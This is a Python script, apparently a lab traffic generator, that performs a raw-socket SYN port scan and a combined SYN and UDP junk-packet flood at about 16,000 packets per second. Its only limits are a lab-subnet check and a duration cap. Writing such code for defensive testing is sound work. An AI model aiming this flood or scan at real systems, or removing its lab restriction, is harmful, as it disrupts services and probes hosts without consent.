# SPDX-License-Identifier: Apache-2.0
"""What the lab defends against: attacker.py scan SERVER | flood SERVER SECONDS

scan asks for TCP ports 1 to 1000 once; flood sends SYNs to port 80 and junk to the DNS port, 16,000 packets a second.
Both end by themselves, and refuse to aim at anything but the lab's own network.
"""

import os
import random
import socket
import struct
import sys
import time

LAB = "10.77.0."
BURST = 40
BURSTS_PER_SECOND = 400
LONGEST_FLOOD = 900


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, target, port):
    """A TCP header with SYN, from a random port. The kernel adds the IP header."""
    header = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


class Attack:
    def __init__(self, target):
        self.target = target
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.raw.connect((target, 0))
        self.source = self.raw.getsockname()[0]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.connect((target, 53))

    def scan(self):
        for port in range(1, 1001):
            self.raw.send(syn(self.source, self.target, port))
            time.sleep(0.001)

    def flood(self, seconds):
        """Half SYNs, half datagrams; the clock sets the pace, a slow machine sends less."""
        junk = os.urandom(600)
        end = time.monotonic() + min(seconds, LONGEST_FLOOD)
        while time.monotonic() < end:
            started = time.monotonic()
            syns = [syn(self.source, self.target, 80) for _ in range(4)]
            for number in range(BURST // 2):
                self.send(self.raw, syns[number % len(syns)])
                self.send(self.udp, junk)
            time.sleep(max(0.0, started + 1 / BURSTS_PER_SECOND - time.monotonic()))

    @staticmethod
    def send(sock, data):
        try:
            sock.send(data)
        except OSError:
            pass  # a full queue, or "port unreachable" for an earlier datagram


def main(what, target, seconds="0"):
    if not target.startswith(LAB):
        sys.exit(f"attacker.py: {target} is not in the lab's network {LAB}0/24")
    attack = Attack(target)
    attack.scan() if what == "scan" else attack.flood(float(seconds))


main(*sys.argv[1:])
